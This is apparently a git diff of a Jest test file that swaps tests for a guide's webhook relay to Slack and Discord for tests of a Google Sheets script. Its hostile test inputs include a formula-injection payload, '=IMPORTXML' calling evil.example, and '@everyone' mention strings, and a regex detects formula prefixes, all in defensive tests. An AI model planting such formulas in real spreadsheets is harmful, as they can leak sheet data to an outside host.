@@ -1,9 +1,9 @@
 import { runInNewContext } from 'node:vm';
-import { afterEach, describe, expect, test } from '@jest/globals';
+import { describe, expect, test } from '@jest/globals';
+import { sheets } from '../../../shared/deliveries/channels/webhook/formats/sheets.ts';
 import { newSecret, signatureOf } from '../../../shared/deliveries/channels/webhook/signatures.ts';
 import { exampleText } from '../../../site/guide/examples.ts';
-import { launchNode, type Running } from '../../support/commands.ts';
-import { openWebhookReceiver, type WebhookReceiver } from '../../support/webhookReceiver.ts';
+import { eventWith } from '../../support/formEvents.ts';
 import { type Signed, VERIFIERS } from '../../support/webhookVerifiers.ts';
 
 const nowSeconds = () => Math.floor(Date.now() / 1_000);
@@ -67,96 +67,72 @@ describe('the guide’s way to verify a webhook', () => {
   );
 });
 
-describe('the guide’s relay', () => {
-  const secret = newSecret();
-  const stops: (() => unknown)[] = [];
-  afterEach(async () => {
-    for (const stop of stops.splice(0)) await stop();
-  });
-
-  async function givenRelay(target: string): Promise<{ port: string; receiver: WebhookReceiver }> {
-    const receiver = await openWebhookReceiver();
-    stops.push(receiver.close);
-    const settings = { WEBHOOK_SECRET: secret, TARGET: target, TARGET_URL: receiver.url, PORT: '0' };
-    const running: Running = launchNode(
-      ['--import', `data:text/javascript,Object.assign(process.env, ${encodeURIComponent(JSON.stringify(settings))})`],
-      'site/guide/examples/webhook-relay.ts',
-    );
-    stops.push(async () => {
-      running.kill('SIGTERM');
-      await running.ended;
-    });
-    await running.untilPrinted('ready');
-    const [, port = ''] = /port: (\d+)/.exec(running.printed().stdout) ?? [];
-    return { port, receiver };
-  }
-
-  const event = (data: object, type = 'submission.created') =>
-    JSON.stringify({ type, timestamp: '2026-11-22T08:30:00.000Z', data: { id: 'sub_1', endpointId: 'enp_1', data } });
-
-  async function post(port: string, { headers, body }: Signed): Promise<number> {
-    const response = await fetch(`http://127.0.0.1:${port}/`, { method: 'POST', headers, body });
-    return response.status;
-  }
-
-  const signed = (body: string, id = 'msg_1') => givenRequest(body, { secrets: [secret], id });
-
-  test('tells Slack, once for each event, and nobody can call a channel', async () => {
-    const { port, receiver } = await givenRelay('slack');
-    const hello = signed(event({ email: 'ada@example.com', message: '<!channel> & you', topics: ['a', 'b'] }));
-    expect([await post(port, hello), await post(port, hello)]).toEqual([204, 204]);
-    expect(receiver.received.map(({ body }) => JSON.parse(body))).toEqual([
-      { text: 'email: ada@example.com\nmessage: &lt;!channel&gt; &amp; you\ntopics: ["a","b"]' },
+describe('the guide’s script for Google Sheets', () => {
+  test('adds a row for each submission, with a column for each field, and no formula', () => {
+    const { doPost, cells } = spreadsheet();
+    const hostile = { email: 'ada@example.com', message: '=IMPORTXML("https://evil.example")', '=name': '+1' };
+    const first = sheets.write(eventWith(hostile)).body;
+    expect([doPost(first), doPost(first)]).toEqual(['added', 'known']);
+    const second = { id: 'sub_2', topics: ['a', 'b'], message: 'Hi', age: 42, id_: true };
+    const { id, ...fields } = second;
+    expect(doPost(sheets.write(eventWith(fields, { id })).body)).toBe('added');
+    const at = '2026-11-24T08:30:00.000Z';
+    expect(cells()).toEqual([
+      ['id', 'submitted', 'email', 'message', '=name', 'topics', 'age', 'id_'],
+      ['sub_01JD0B6E1F7Q3W9KXN5T2RAH8D', at, 'ada@example.com', '=IMPORTXML("https://evil.example")', '+1'],
+      ['sub_2', at, '', 'Hi', '', 'a, b', 42, true],
     ]);
-    expect(await post(port, signed(event({}, 'webhook.test'), 'msg_2'))).toBe(204);
-    expect(await post(port, { ...hello, body: event({ message: 'forged' }) })).toBe(401);
-    expect(await post(port, signed('x'.repeat(500_001)))).toBe(413);
-    expect(receiver.received).toHaveLength(1);
   });
 
-  test('tells Discord, in 2,000 characters and without mentions; what fails is asked for again', async () => {
-    const { port, receiver } = await givenRelay('discord');
-    receiver.behave = () => ({ status: 500 });
-    const long = signed(event({ message: `@everyone ${'x'.repeat(5_000)}` }));
-    expect(await post(port, long)).toBe(502);
-    receiver.behave = () => ({ status: 204 });
-    expect(await post(port, long)).toBe(204);
-    const { content, allowed_mentions: mentions } = JSON.parse(receiver.received[1]?.body ?? '');
-    expect(content).toHaveLength(2_000);
-    expect(mentions).toEqual({ parse: [] });
-    expect(receiver.received).toHaveLength(2);
+  test('adds a row for a test, and none for what else happens to a submission', () => {
+    const { doPost, cells } = spreadsheet();
+    expect(doPost(sheets.write(eventWith({}, { type: 'webhook.test' })).body)).toBe('added');
+    expect(doPost(sheets.write(eventWith({ a: 1 }, { type: 'submission.updated' })).body)).toBe('ignored');
+    expect(doPost(sheets.write(eventWith({ a: 1 }, { type: 'submission.deleted' })).body)).toBe('ignored');
+    expect(cells().map(([first]) => first)).toEqual(['id', 'test']);
   });
 
-  test('gives a spreadsheet a row for each submission, with a column for each field, and no formula', async () => {
-    const { port, receiver } = await givenRelay('spreadsheet');
-    const cells: unknown[][] = [['']];
-    const doPost = spreadsheetWith(cells);
-    const post1 = signed(event({ email: 'ada@example.com', message: '=IMPORTXML("https://evil.example")' }));
-    expect(await post(port, post1)).toBe(204);
-    const [sent] = receiver.received;
-    expect(doPost(sent?.body ?? '')).toBe('added');
-    expect(doPost(sent?.body ?? '')).toBe('known');
-    expect(doPost(JSON.stringify({ id: 'sub_2', fields: { topics: ['a'], message: 'Hi' } }))).toBe('added');
-    expect(cells).toEqual([
-      ['id', 'email', 'message', 'topics'],
-      ['sub_1', 'ada@example.com', '\'=IMPORTXML("https://evil.example")'],
-      ['sub_2', '', 'Hi', '["a"]'],
-    ]);
+  test('has at most 100 columns, whatever names are sent', () => {
+    const { doPost, cells } = spreadsheet();
+    for (const round of [1, 2]) {
+      const data = Object.fromEntries(Array.from({ length: 200 }, (_, place) => [`${round}-${place}`, place]));
+      doPost(sheets.write(eventWith(data, { id: `sub_${round}` })).body);
+    }
+    const [names, first, second] = cells();
+    expect(names).toHaveLength(100);
+    expect(names?.at(-1)).toBe('more');
+    expect(Object.keys(JSON.parse(String(first?.at(-1))))).toHaveLength(103);
+    expect(Object.keys(JSON.parse(String(second?.at(-1))))).toHaveLength(200);
   });
 });
 
-/** Google's script with a stand-in for the spreadsheet: what it answers to a body. */
-function spreadsheetWith(cells: unknown[][]): (contents: string) => string {
+/** Google's script with a stand-in for the spreadsheet, which takes a leading apostrophe away and keeps text. */
+function spreadsheet() {
+  const rows: unknown[][] = [];
+  const typed = (value: unknown) => {
+    if (typeof value !== 'string') return value;
+    if (/^[=+\-@\t\r]/.test(value)) throw new Error(`A formula got in: ${value}`);
+    return value.replace(/^'/, '');
+  };
   const sheet = {
-    getDataRange: () => ({ getValues: () => cells.map((row) => [...row]) }),
-    getRange: () => ({ setValues: ([names]: unknown[][]) => cells.splice(0, 1, [...(names ?? [])]) }),
-    appendRow: (row: unknown[]) => cells.push([...row]),
+    getLastColumn: () => rows[0]?.length ?? 0,
+    getRange: () => ({
+      getValues: () => [rows[0] ?? ['']],
+      setValues: ([names = []]: unknown[][]) => rows.splice(0, 1, names.map(typed)),
+    }),
+    createTextFinder: (text: string) => ({
+      matchEntireCell: () => ({ findNext: () => rows.flat().find((cell) => cell === text) ?? null }),
+    }),
+    appendRow: (row: unknown[]) => rows.push(row.map(typed)),
   };
   const context = {
     SpreadsheetApp: { getActive: () => ({ getSheets: () => [sheet] }) },
     LockService: { getScriptLock: () => ({ waitLock: () => undefined, releaseLock: () => undefined }) },
     ContentService: { createTextOutput: (text: string) => text },
   };
-  return (contents) =>
-    runInNewContext(`${exampleText('spreadsheet.js')}; doPost(${JSON.stringify({ postData: { contents } })})`, context);
+  const doPost = (contents: string): string =>
+    runInNewContext(`${exampleText('spreadsheet.js')}; doPost(${JSON.stringify({ postData: { contents } })})`, {
+      ...context,
+    });
+  return { doPost, cells: () => rows };
 }
